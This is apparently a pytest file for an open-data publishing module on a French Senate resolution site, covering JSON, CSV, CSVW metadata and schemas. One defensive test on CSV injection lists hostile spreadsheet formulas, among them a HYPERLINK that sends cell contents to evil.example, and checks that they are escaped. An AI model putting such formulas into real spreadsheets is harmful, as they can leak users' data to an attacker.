"""Open data (scripts/opendata.py): the JSON, the CSV and the schemas."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from urllib.parse import urljoin, urlsplit

from lxml import etree

from conftest import ROOT
from helpers import VALID, data_copy
from resolution_site import paths
from resolution_site.dataset import FILES
from resolution_site.pipeline import load_dataset, site_files
from resolution_site.publish import opendata
from resolution_site.release import release
from resolution_site.settings import Settings


def url_for(provision_id: str) -> str:
    return f"dispositions/{provision_id}/"


def test_json_reloads_into_the_models_unchanged(data) -> None:
    published = json.loads(opendata.resolution_json(data))
    fields = opendata.content_fields()
    assert sorted(published) == sorted(["about", *fields])
    for name, (_, model) in FILES.items():
        own = {key: published[key] for key, (file, _) in fields.items() if file == name}
        assert model.model_validate_json(json.dumps(own)) == data.files[name], name


def test_json_is_flat_and_uses_the_yaml_names_and_aliases(data) -> None:
    published = json.loads(opendata.resolution_json(data))
    assert published["vote"]["for"]["value"] == 10
    assert "for_" not in published["vote"] and "vote" not in published["vote"]
    assert published["resolution"]["adopted"]["value"] == "2024-01-17"
    assert [p["id"] for p in published["provisions"]] == [p.id for p in data.provisions]
    assert [e["id"] for e in published["events"]] == ["earlier-event", "adoption", "earlier-adoption"]
    assert published["corrections"][0]["id"] == "first-wording-confirmed"


def test_about_gives_work_version_date_licence_and_digest(data) -> None:
    about = json.loads(opendata.resolution_json(data))["about"]
    assert about["work"] == "/akn/fr/statement/resolution/senat/2024-01-17/haut-karabagh"
    assert about["version"] == "3" and about["date"] == "2024-03-05"  # two correction days → version 3
    assert about["licence"]["data"]["id"] == "CC-BY-4.0" and about["licence"]["official_text"]["licence"] is None
    assert about["digest"] == opendata.digest(data) and about["digest"].startswith("sha256:")
    assert about["site"] is None and about["files"]["csv"] == "donnees/dispositions.csv"
    assert about["provision_urls"]["first-clause"] == "dispositions/first-clause/"


def test_version_follows_the_corrections_log(tmp_path) -> None:
    empty = load_dataset(data_copy(tmp_path / "a", corrections="corrections: []\n"))
    assert release(empty).as_dict() == {"version": "1", "date": None}
    same_day = (VALID / "corrections.yaml").read_text(encoding="utf-8").replace("2024-03-05", "2024-02-01")
    one_day = load_dataset(data_copy(tmp_path / "b", corrections=same_day))
    assert release(one_day).as_dict() == {"version": "2", "date": "2024-02-01"}


def test_digest_changes_with_any_content_change(tmp_path, data) -> None:
    changed = load_dataset(data_copy(tmp_path, topics=("Premier thème.", "Premier thème modifié.")))
    assert opendata.digest(changed) != opendata.digest(data)
    assert release(changed) == release(data)  # an unlogged change keeps the version; the digest tells


def test_absolute_urls_when_the_site_url_is_set(data) -> None:
    settings = Settings(site_url="https://example.org/senat-2024")
    files = opendata.render_files(data, settings)
    rows = list(csv.DictReader(io.StringIO(files[paths.PROVISIONS_CSV])))
    assert rows[0]["url"].startswith("https://example.org/senat-2024/dispositions/")
    about = json.loads(files[paths.RESOLUTION_JSON])["about"]
    assert about["site"] == "https://example.org/senat-2024/"
    assert about["files"]["akn"]["fr"] == "https://example.org/senat-2024/donnees/akn/fr.xml"
    assert about["provision_urls"]["a-visa"] == "https://example.org/senat-2024/dispositions/a-visa/"
    csvw = json.loads(files[paths.CSVW_METADATA])
    assert csvw["url"] == "https://example.org/senat-2024/donnees/dispositions.csv"


def test_csvw_metadata_describes_every_column(data) -> None:
    csvw = json.loads(opendata.csvw_metadata(data))
    assert csvw["@context"][0] == "http://www.w3.org/ns/csvw"
    assert csvw["url"] == "dispositions.csv"  # relative to the metadata file, beside it
    assert [c["name"] for c in csvw["tableSchema"]["columns"]] == opendata.CSV_COLUMNS
    assert csvw["tableSchema"]["primaryKey"] == "id"
    assert csvw["dc:license"] == {"@id": "https://creativecommons.org/licenses/by/4.0/"}
    assert csvw["schema:version"] == "3" and csvw["dc:modified"]["@value"] == "2024-03-05"
    topics = next(c for c in csvw["tableSchema"]["columns"] if c["name"] == "topics")
    assert topics["separator"] == ";"


def test_json_is_canonical(data) -> None:
    text = opendata.resolution_json(data)
    assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=2, sort_keys=True) + "\n"


def test_csv_has_one_row_per_provision_in_text_order(data) -> None:
    rows = list(csv.DictReader(io.StringIO(opendata.provisions_csv(data, url_for))))
    assert list(rows[0]) == opendata.CSV_COLUMNS
    assert [row["id"] for row in rows] == [p.id for p in data.provisions_in_order()]
    first = next(row for row in rows if row["id"] == "first-clause")
    assert first == {
        "id": "first-clause",
        "ref": "O1",
        "kind": "operative",
        "order": "2",
        "order_basis": "certain",
        "status": "official",
        "heading_fr": "Première disposition",
        "heading_en": "First provision",
        "wording_fr": "Le Sénat condamne l'exemple ; »",
        "wording_en": "The Senate condemns the example;",
        "topics": "alpha",
        "sources": "official-page",
        "url": "dispositions/first-clause/",
    }
    second = next(row for row in rows if row["id"] == "second-clause")
    assert second["wording_fr"] == "" and second["topics"] == "alpha;beta"


def test_published_schema_describes_every_file(data) -> None:
    schema = opendata.published_schema()
    assert schema["$schema"] == opendata.JSON_SCHEMA_DIALECT
    assert set(schema["properties"]) == {"about", *opendata.content_fields()}
    assert set(schema["required"]) == set(schema["properties"])
    assert schema["additionalProperties"] is False
    assert schema["properties"]["provisions"]["type"] == "array"
    vote = schema["$defs"]["Vote"]["properties"]
    assert "for" in vote and "for_" not in vote


def test_schemas_are_up_to_date() -> None:
    """data/schema/*.schema.json are committed for editors, and the published schema (which a build
    publishes as it is, without asking pydantic) beside the module: they must match the models."""
    assert opendata.stale_schemas(ROOT / "data" / "schema") == [], "run: python scripts/opendata.py --write-schemas"
    on_disk = sorted(p.name for p in (ROOT / "data" / "schema").glob("*.schema.json"))
    assert on_disk == sorted(opendata.file_schemas())


def test_editor_schema_is_the_model_of_its_file() -> None:
    schema = json.loads(opendata.file_schemas()["provisions.schema.json"])
    assert schema["title"] == "data/provisions.yaml"
    assert schema["required"] == ["provisions"]
    assert schema["additionalProperties"] is False


def test_every_data_file_names_its_schema() -> None:
    """Each data file's first line points editors to its schema (yaml-language-server)."""
    for name, (filename, _) in FILES.items():
        first = (ROOT / "data" / filename).read_text(encoding="utf-8").splitlines()[0]
        assert first == opendata.schema_header(name), (
            f"data/{filename}: first line should be {opendata.schema_header(name)!r}"
        )


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path) -> None:
    """OWASP's advice on CSV injection, said in the CSVW metadata; the JSON keeps the values."""
    hostile = {"fr": '=HYPERLINK("https://evil.example/?"&A1,"x")', "en": "+1+2", "v": "@SUM(A1:A2)", "w": "-2+3"}
    data = load_dataset(
        data_copy(
            tmp_path,
            provisions=(
                "heading: {fr: Première disposition, en: First provision}",
                f"heading: {{fr: '{hostile['fr']}', en: '{hostile['en']}'}}",
            ),
        )
    )
    data2 = load_dataset(
        data_copy(
            tmp_path / "2",
            provisions=(
                "heading: {fr: Deuxième disposition, en: Second provision}",
                f"heading: {{fr: '{hostile['v']}', en: '{hostile['w']}'}}",
            ),
        )
    )
    cells = [row[6:8] for d in (data, data2) for row in csv.reader(io.StringIO(opendata.provisions_csv(d, url_for)))]
    for value in hostile.values():
        assert [f"'{value}"] == [cell for pair in cells for cell in pair if cell.endswith(value)], value
    assert not [cell for pair in cells for cell in pair if cell.startswith(opendata.FORMULA_STARTS)]
    metadata = json.loads(opendata.csvw_metadata(data))
    assert "apostrophe" in metadata["dc:description"] and "OWASP" in metadata["dc:description"]
    assert json.loads(opendata.resolution_json(data))["provisions"][0]["heading"]["fr"] == hostile["fr"]
    assert opendata.csv_cell(7) == 7 and opendata.csv_cell("a=b") == "a=b" and opendata.csv_cell("\tx") == "'\tx"


def test_the_same_data_text_is_the_same_in_json_csv_akn_and_search(real_data) -> None:
    """Text is normalised once, at load: no output folds its spaces again, so our prose
    (which the YAML may write with a non-breaking space before « ; ») reads the same,
    character for character, in every downloadable file and in the search documents."""
    files = site_files(real_data)
    in_json = json.dumps(json.loads(files["fr/donnees/resolution.json"]), ensure_ascii=False)
    cells = {
        cell
        for name in ("dispositions.csv", "depuis.csv")
        for row in csv.reader(io.StringIO(files[f"fr/donnees/{name}"]))
        for cell in row
    }
    akn = set()
    for lang in ("fr", "en"):
        for element in etree.fromstring(files[f"fr/donnees/akn/{lang}.xml"].encode()).iter():
            akn.update(t for t in (element.text, *element.attrib.values()) if t)
    searched = {
        lang: "\n".join(
            text
            for path, body in files.items()
            if path.startswith(f"{lang}/search/docs/")
            for doc in json.loads(body)["docs"]
            for _, text in doc.get("texts", [])
        )
        for lang in ("fr", "en")
    }
    nbsp_in_yaml = 0
    for event in real_data.since:
        for lang in ("fr", "en"):
            text = getattr(event.description, lang)
            nbsp_in_yaml += "\u00a0" in text
            assert json.dumps(text, ensure_ascii=False) in in_json, text
            assert text in cells, text
            assert text in searched[lang], text
    for p in real_data.provisions:
        for lang in ("fr", "en"):
            heading = getattr(p.heading, lang)
            assert json.dumps(heading, ensure_ascii=False) in in_json, heading
            assert heading in cells and heading in akn, heading
    assert nbsp_in_yaml == 0, "our own prose keeps no non-breaking space after load"
    assert "\u00a0" in (ROOT / "data" / "since.yaml").read_text(encoding="utf-8"), "the case this test is about"


def test_json_publishes_our_quotations_as_the_editions_show_them(tmp_path) -> None:
    """A reader of resolution.json gets our texts as the pages give them, not our ``{fr|…|…}``
    markup to parse: each side in its edition's marks, with our translation marked as ours,
    by the pages' own reading (``text.plain``, ``text.resolve``)."""
    data = load_dataset(
        data_copy(
            tmp_path,
            corrections=(
                "summary: {fr: Libellé confirmé., en: Wording confirmed.}",
                'summary: {fr: "Le Sénat {en|confirms|confirme}.", en: "Wording {fr|confirmé|confirmed}."}',
            ),
        )
    )
    published = json.loads(opendata.resolution_json(data))
    summaries = [c["summary"] for c in published["corrections"]]
    assert {
        "fr": "Le Sénat «\u00a0confirms\u00a0» (notre traduction, non officielle\u00a0: «\u00a0confirme\u00a0»).",
        "en": "Wording “confirmé” (our translation, unofficial: “confirmed”).",
    } in summaries
    assert "{fr|" not in json.dumps(published) and "{en|" not in json.dumps(published)
    # the data itself keeps the markup: the pages mark the quotation's language from it
    assert any(c.summary.en == "Wording {fr|confirmé|confirmed}." for c in data.corrections)


def test_no_published_open_data_file_carries_our_quotation_markup(built_site: Path) -> None:
    """Nothing a re-user downloads (JSON, its schema, CSV, CSVW, Akoma Ntoso, Atom) holds
    ``{fr|…}`` or ``{en|…}``: the real data has such quotations, and every file resolves them."""
    files = [path for path in sorted((built_site / "donnees").rglob("*")) if path.is_file()]
    assert any(path.name == "resolution.json" for path in files)
    marked = [
        str(path.relative_to(built_site))
        for path in files
        if any(mark in path.read_text(encoding="utf-8") for mark in ("{fr|", "{en|"))
    ]
    assert not marked, marked
    assert "{fr|" in (ROOT / "data" / "context.yaml").read_text(encoding="utf-8"), "the case this test is about"


def test_every_address_in_a_table_leads_to_its_place_on_the_site(built_site: Path) -> None:
    """CSVW reads a relative address against the table's own: dispositions/visas/, read from donnees/, led
    nowhere. Each table's url, resolved from the table's address, is a built page holding its anchor."""
    tables = sorted((built_site / "donnees").glob("*.csv"))
    assert len(tables) >= 3
    for table in tables:
        rows = list(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8"))))
        assert rows and "url" in rows[0], table.name
        for row in rows:
            where = urlsplit(urljoin(f"/donnees/{table.name}", row["url"]))
            page = built_site / where.path.lstrip("/") / "index.html"
            assert page.is_file(), (table.name, row["url"])
            assert not where.fragment or f'id="{where.fragment}"' in page.read_text(encoding="utf-8"), (
                table.name,
                row["url"],
            )
